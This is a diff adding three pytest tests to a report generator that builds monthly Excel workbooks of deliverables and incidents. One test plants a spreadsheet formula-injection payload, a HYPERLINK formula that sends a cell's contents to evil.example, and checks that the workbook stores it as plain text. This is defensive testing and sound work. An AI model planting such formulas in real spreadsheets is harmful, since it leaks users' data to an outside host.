@@ -123,3 +123,45 @@ def test_reports_are_the_readers_own(program, alpha, other_org, january, member_
         "/outcomes/reports/generate/", {"kind": "monthly", "month": "2031-01", "language": "en"}
     )
     assert response.status_code == 400 and "Choose a month of the program" in response.content.decode()
+
+
+def test_a_tenants_text_is_text_in_the_workbook_never_a_formula(program, alpha, january):
+    DeliverableFactory(
+        organization=alpha, title='=HYPERLINK("http://evil.example/?"&B2,"Details")', released_on=date(2027, 1, 21)
+    )
+    report = services.generate(
+        program=program, organization=None, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
+    )
+    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
+    cells = [c for row in book["Deliverables released in the period"[:31]].iter_rows() for c in row if c.value]
+    formula = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
+    assert formula.data_type == "s"
+
+
+def test_an_incident_repaired_after_the_month_is_still_open_in_its_report(program, alpha, january):
+    # conftest's second January incident was still open; one resolved on Feb 3 is open as of Jan 31 too.
+    observed = datetime(2027, 1, 28, 3, 0, tzinfo=JST)
+    HealthEventFactory(
+        cluster__organization=alpha, observed_at=observed, resolved_at=datetime(2027, 2, 3, tzinfo=JST), gpu=5
+    )
+    report = services.generate(
+        program=program, organization=None, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
+    )
+    incidents, _header = sheet_rows(report, "Incidents and time to repair")
+    assert incidents["Alpha Research"][1:4] == [3, 1, 2]  # 3 incidents, 1 repaired in January, 2 open at its end
+
+
+def test_one_failing_report_never_keeps_the_others_from_being_made_or_mailed(program, alpha, monkeypatch):
+    real = services.generate
+
+    def generate(**kwargs):
+        if kwargs["organization"] is not None and kwargs["language"] == "ja":
+            raise RuntimeError("layout failed")
+        return real(**kwargs)
+
+    monkeypatch.setattr(services, "generate", generate)
+    made = services.generate_due(now=FEB_15)
+    assert Report.objects.filter(pk__in=made).count() == 3  # the program's two and Alpha's English one
+    assert sorted(services.unmailed(now=FEB_15)) == sorted(made)  # beat mails what is not mailed yet
+    monkeypatch.setattr(services, "generate", real)
+    assert len(services.generate_due(now=FEB_15)) == 1  # the next run makes the one that failed
